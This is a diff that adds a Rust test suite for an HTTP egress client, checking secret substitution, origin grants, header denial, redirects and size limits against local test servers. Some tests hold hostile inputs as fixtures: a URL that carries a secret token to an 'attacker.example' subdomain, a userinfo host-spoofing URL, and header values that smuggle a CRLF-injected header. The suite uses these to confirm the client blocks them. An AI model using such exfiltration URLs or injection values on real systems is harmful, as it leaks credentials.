@@ -1,0 +1,429 @@
+//! Real servers on free ports of this machine.
+
+use super::*;
+use mainstay_domain::{blob::Blob, effect::HttpMethod};
+use std::sync::Mutex;
+use tokio::{
+    io::{AsyncReadExt, AsyncWriteExt},
+    net::TcpListener,
+};
+
+/// `${secret:token}` is `hunter22`.
+struct OneSecret;
+
+impl Secrets for OneSecret {
+    fn reveal(&self, text: &str) -> Result<String, String> {
+        match text.replace("${secret:token}", "hunter22") {
+            revealed if revealed.contains("${secret:") => Err("secret is not known".to_owned()),
+            revealed => Ok(revealed),
+        }
+    }
+
+    fn conceal(&self, bytes: Vec<u8>) -> Vec<u8> {
+        String::from_utf8_lossy(&bytes)
+            .replace("hunter22", "${secret:token}")
+            .into_bytes()
+    }
+}
+
+/// Answers every request with what `answer` makes of it, and closes the connection; an empty answer closes at once.
+struct Server {
+    origin: HttpOrigin,
+    heard: Arc<Mutex<Vec<String>>>,
+}
+
+impl Server {
+    async fn start(answer: impl Fn(&str) -> String + Send + 'static) -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let heard = Arc::new(Mutex::new(Vec::new()));
+        let log = Arc::clone(&heard);
+        tokio::spawn(async move {
+            loop {
+                let (mut stream, _) = listener.accept().await.unwrap();
+                let request = read_request(&mut stream).await;
+                log.lock().unwrap().push(request.clone());
+                let _ = stream.write_all(answer(&request).as_bytes()).await;
+            }
+        });
+        let origin = HttpOrigin {
+            scheme: "http".to_owned(),
+            host: "127.0.0.1".to_owned(),
+            port,
+        };
+        Self { origin, heard }
+    }
+
+    fn url(&self, path: &str) -> String {
+        format!("http://127.0.0.1:{}{path}", self.origin.port)
+    }
+
+    fn heard(&self) -> Vec<String> {
+        self.heard.lock().unwrap().clone()
+    }
+}
+
+async fn read_request(stream: &mut tokio::net::TcpStream) -> String {
+    let mut text = String::new();
+    let mut chunk = [0; 4_096];
+    loop {
+        let count = stream.read(&mut chunk).await.unwrap();
+        text.push_str(std::str::from_utf8(&chunk[..count]).unwrap());
+        let Some((head, body)) = text.split_once("\r\n\r\n") else {
+            assert!(count > 0, "{text}");
+            continue;
+        };
+        let length = head
+            .lines()
+            .find_map(|line| line.strip_prefix("content-length: "));
+        if body.len() >= length.map_or(0, |length| length.parse().unwrap()) {
+            return text;
+        }
+    }
+}
+
+fn ok(body: &str) -> String {
+    format!(
+        "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
+        body.len()
+    )
+}
+
+fn redirect(status: u16, location: &str) -> String {
+    format!(
+        "HTTP/1.1 {status} R\r\nlocation: {location}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
+    )
+}
+
+fn request(method: HttpMethod, url: String) -> HttpRequest {
+    HttpRequest {
+        method,
+        url,
+        headers: Vec::new(),
+        body: Blob::default(),
+        timeout_ms: None,
+    }
+}
+
+fn headers(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
+    pairs
+        .iter()
+        .map(|(name, value)| (name.to_string(), value.to_string()))
+        .collect()
+}
+
+async fn send_bounded(
+    request: HttpRequest,
+    granted: &[&HttpOrigin],
+    timeout: Duration,
+    max_bytes: u64,
+) -> Result<HttpResponse, EffectError> {
+    let client = EgressClient::new(Arc::new(OneSecret)).unwrap();
+    let granted = granted.iter().map(|origin| (*origin).clone()).collect();
+    client
+        .send(
+            request,
+            granted,
+            Some("op-1/3".to_owned()),
+            timeout,
+            max_bytes,
+        )
+        .await
+}
+
+async fn send(request: HttpRequest, granted: &[&HttpOrigin]) -> Result<HttpResponse, EffectError> {
+    send_bounded(request, granted, Duration::from_secs(20), 10_000).await
+}
+
+#[tokio::test]
+async fn secrets_go_in_at_egress_and_come_out_of_the_answer() {
+    let server =
+        Server::start(|request| ok(request).replacen("\r\n", "\r\nx-echo: <hunter22>\r\n", 1))
+            .await;
+    let mut request = request(HttpMethod::Post, server.url("/a?t=${secret:token}"));
+    request.headers = headers(&[
+        ("Authorization", "Bearer ${secret:token}"),
+        ("X-Two", "1"),
+        ("x-two", "2"),
+    ]);
+    request.body = b"{\"token\":\"${secret:token}\"}".to_vec().into();
+    let response = send(request, &[&server.origin]).await.unwrap();
+    let heard = server.heard().remove(0);
+    for part in [
+        "POST /a?t=hunter22 HTTP/1.1\r\n",
+        "\r\nauthorization: Bearer hunter22\r\n",
+        "\r\nx-two: 1\r\n",
+        "\r\nx-two: 2\r\n",
+        "\r\nidempotency-key: op-1/3\r\n",
+        "\r\nuser-agent: mainstay/",
+        "\r\n\r\n{\"token\":\"hunter22\"}",
+    ] {
+        assert!(heard.contains(part), "{part} is not in {heard}");
+    }
+    assert!(
+        response
+            .headers
+            .contains(&("x-echo".to_owned(), "<${secret:token}>".to_owned()))
+    );
+    let body = String::from_utf8(response.body.0).unwrap();
+    assert!(
+        body.contains("/a?t=${secret:token}") && !body.contains("hunter22"),
+        "{body}"
+    );
+}
+
+#[tokio::test]
+async fn the_guests_own_idempotency_key_stays() {
+    let server = Server::start(|_| ok("")).await;
+    let mut request = request(HttpMethod::Put, server.url("/"));
+    request.headers = headers(&[("Idempotency-Key", "mine")]);
+    send(request, &[&server.origin]).await.unwrap();
+    let heard = server.heard().remove(0);
+    assert!(
+        heard.contains("idempotency-key: mine") && !heard.contains("op-1/3"),
+        "{heard}"
+    );
+}
+
+#[tokio::test]
+async fn what_is_not_granted_is_denied_and_nothing_is_sent() {
+    let server = Server::start(|_| ok("")).await;
+    let mut https = server.origin.clone();
+    https.scheme = "https".to_owned();
+    let mut other_port = server.origin.clone();
+    other_port.port = 1;
+    let error = send(
+        request(HttpMethod::Get, server.url("/")),
+        &[&https, &other_port],
+    )
+    .await
+    .unwrap_err();
+    assert!(
+        matches!(&error, EffectError::Denied(why) if why.contains(&server.url("/"))),
+        "{error}"
+    );
+    // A secret as a part of the address is told to nobody, not even to a name server.
+    let sneaky = request(
+        HttpMethod::Get,
+        "http://${secret:token}.attacker.example/".to_owned(),
+    );
+    let error = send(sneaky, &[&server.origin]).await.unwrap_err();
+    assert!(!error.to_string().contains("hunter22"), "{error}");
+    let userinfo = request(
+        HttpMethod::Get,
+        format!("http://127.0.0.1:{}@elsewhere.example/", server.origin.port),
+    );
+    assert!(matches!(
+        send(userinfo, &[&server.origin]).await,
+        Err(EffectError::Denied(_))
+    ));
+    assert_eq!(server.heard(), [""; 0]);
+}
+
+#[tokio::test]
+async fn headers_of_the_host_are_denied_and_broken_ones_fail() {
+    let server = Server::start(|_| ok("")).await;
+    for (name, value, denied) in [
+        ("Host", "internal", true),
+        ("transfer-encoding", "chunked", true),
+        ("Content-Length", "5", true),
+        ("a b", "c", false),
+        ("x", "a\r\nb: c", false),
+        ("x", "${secret:none}", false),
+    ] {
+        let mut request = request(HttpMethod::Get, server.url("/"));
+        request.headers = headers(&[(name, value)]);
+        let error = send(request, &[&server.origin]).await.unwrap_err();
+        let as_expected = match denied {
+            true => matches!(error, EffectError::Denied(_)),
+            false => matches!(error, EffectError::Failed(_)),
+        };
+        assert!(as_expected, "{name}: {error}");
+    }
+    assert_eq!(server.heard(), [""; 0]);
+}
+
+#[tokio::test]
+async fn a_redirect_is_followed_within_the_grant_only() {
+    let inner = Server::start(|_| ok("arrived")).await;
+    let target = inner.url("/next?hunter22");
+    let outer = Server::start(move |_| redirect(307, &target)).await;
+    let mut request = request(HttpMethod::Post, outer.url("/"));
+    request.headers = headers(&[
+        ("authorization", "Basic abc"),
+        ("cookie", "a=b"),
+        ("x-token", "${secret:token}"),
+        ("x-plain", "1"),
+        ("content-type", "text/plain"),
+    ]);
+    request.body = b"body".to_vec().into();
+    let error = send(request.clone(), &[&outer.origin]).await.unwrap_err();
+    let shown = format!("http://127.0.0.1:{}", inner.origin.port);
+    assert!(
+        matches!(&error, EffectError::Denied(why) if why.contains(&shown)),
+        "{error}"
+    );
+    assert!(!error.to_string().contains("hunter22"), "{error}");
+    assert_eq!(inner.heard(), [""; 0]);
+
+    let response = send(request, &[&outer.origin, &inner.origin])
+        .await
+        .unwrap();
+    assert_eq!(response.body.0, b"arrived");
+    let heard = inner.heard().remove(0);
+    assert!(
+        heard.starts_with("POST /next?hunter22 ") && heard.ends_with("\r\n\r\nbody"),
+        "{heard}"
+    );
+    assert!(
+        heard.contains("x-plain: 1") && heard.contains("content-type: text/plain"),
+        "{heard}"
+    );
+    for credential in ["authorization", "cookie", "x-token"] {
+        assert!(!heard.contains(credential), "{credential} in {heard}");
+    }
+}
+
+/// `POST`, `PUT` or `HEAD` answered with this status, to the same origin: what arrives at the second hop.
+async fn check_method(method: HttpMethod, status: u16, arrives: &str, with_body: bool) {
+    let server = Server::start(move |request| {
+        if request.contains(" /first ") {
+            redirect(status, "second")
+        } else {
+            ok("")
+        }
+    })
+    .await;
+    let mut request = request(method, server.url("/first"));
+    request.headers = headers(&[("authorization", "a"), ("content-type", "text/plain")]);
+    request.body = b"body".to_vec().into();
+    send(request, &[&server.origin]).await.unwrap();
+    let heard = server.heard().remove(1);
+    assert!(
+        heard.starts_with(&format!("{arrives} /second ")),
+        "{status}: {heard}"
+    );
+    assert_eq!(heard.ends_with("body"), with_body, "{status}: {heard}");
+    assert_eq!(
+        heard.contains("content-type"),
+        with_body,
+        "{status}: {heard}"
+    );
+    assert!(heard.contains("authorization: a"), "{status}: {heard}");
+}
+
+#[tokio::test]
+async fn redirects_change_the_method_as_rfc_9110_says() {
+    check_method(HttpMethod::Post, 301, "GET", false).await;
+    check_method(HttpMethod::Post, 302, "GET", false).await;
+    check_method(HttpMethod::Post, 303, "GET", false).await;
+    check_method(HttpMethod::Post, 307, "POST", true).await;
+    check_method(HttpMethod::Post, 308, "POST", true).await;
+    check_method(HttpMethod::Put, 302, "PUT", true).await;
+    check_method(HttpMethod::Put, 303, "GET", false).await;
+}
+
+#[tokio::test]
+async fn a_redirect_is_no_place_for_secrets_and_has_an_end() {
+    let server = Server::start(|_| redirect(302, "/again?${secret:token}")).await;
+    let error = send(request(HttpMethod::Get, server.url("/")), &[&server.origin])
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(&error, EffectError::Failed(why) if why.contains("more than 5")),
+        "{error}"
+    );
+    let heard = server.heard();
+    assert_eq!(heard.len(), 6);
+    assert!(
+        heard.iter().all(|request| !request.contains("hunter22")),
+        "{heard:?}"
+    );
+    // Without an address it is an answer like any other.
+    let bare = Server::start(|_| "HTTP/1.1 302 R\r\ncontent-length: 0\r\n\r\n".to_owned()).await;
+    let response = send(request(HttpMethod::Get, bare.url("/")), &[&bare.origin])
+        .await
+        .unwrap();
+    assert_eq!(response.status, 302);
+}
+
+#[tokio::test]
+async fn an_answer_is_bounded() {
+    let server = Server::start(|_| ok(&"x".repeat(5_000))).await;
+    let get = || request(HttpMethod::Get, server.url("/"));
+    let long = send_bounded(get(), &[&server.origin], Duration::from_secs(20), 4_999).await;
+    assert!(
+        matches!(&long, Err(EffectError::Limited(why)) if why.contains("4999")),
+        "{long:?}"
+    );
+    // Its headers count too.
+    let exact = send_bounded(get(), &[&server.origin], Duration::from_secs(20), 5_100).await;
+    assert_eq!(exact.unwrap().body.0.len(), 5_000);
+}
+
+#[tokio::test]
+async fn only_what_was_certainly_not_sent_is_unavailable() {
+    let closed = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = closed.local_addr().unwrap().port();
+    let origin = HttpOrigin {
+        scheme: "http".to_owned(),
+        host: "127.0.0.1".to_owned(),
+        port,
+    };
+    // Bound and never accepted: it connects, and no answer comes.
+    let url = format!("http://127.0.0.1:{port}/?${{secret:token}}");
+    let granted = [&origin];
+    let silent = send_bounded(
+        request(HttpMethod::Post, url.clone()),
+        &granted,
+        Duration::from_millis(300),
+        100,
+    );
+    let error = silent.await.unwrap_err();
+    assert!(
+        matches!(&error, EffectError::TimedOut(why) if why.contains("300ms")),
+        "{error}"
+    );
+    drop(closed);
+    let error = send(request(HttpMethod::Post, url), &[&origin])
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(&error, EffectError::Unavailable(why) if why.contains("refused")),
+        "{error}"
+    );
+    assert!(!error.to_string().contains("hunter22"), "{error}");
+    for answer in [
+        "",
+        "HTTP/1.1 200 OK\r\ncontent-length: 50\r\n\r\ncut",
+        "nonsense\r\n\r\n",
+    ] {
+        let server = Server::start(|_| answer.to_owned()).await;
+        let error = send(
+            request(HttpMethod::Post, server.url("/")),
+            &[&server.origin],
+        )
+        .await
+        .unwrap_err();
+        assert!(
+            matches!(error, EffectError::TimedOut(_)),
+            "{answer}: {error}"
+        );
+    }
+}
+
+#[test]
+fn origins_are_written_as_grants_write_them() {
+    for (url, scheme, host, port) in [
+        ("https://Hooks.Example/x", "https", "hooks.example", 443),
+        ("http://[::1]:8080/", "http", "::1", 8080),
+        ("http://127.1/", "http", "127.0.0.1", 80),
+    ] {
+        let found = origin(&Url::parse(url).unwrap()).unwrap();
+        assert_eq!(
+            (found.scheme.as_str(), found.host.as_str(), found.port),
+            (scheme, host, port)
+        );
+    }
+    assert_eq!(origin(&Url::parse("mailto:x@y.example").unwrap()), None);
+}
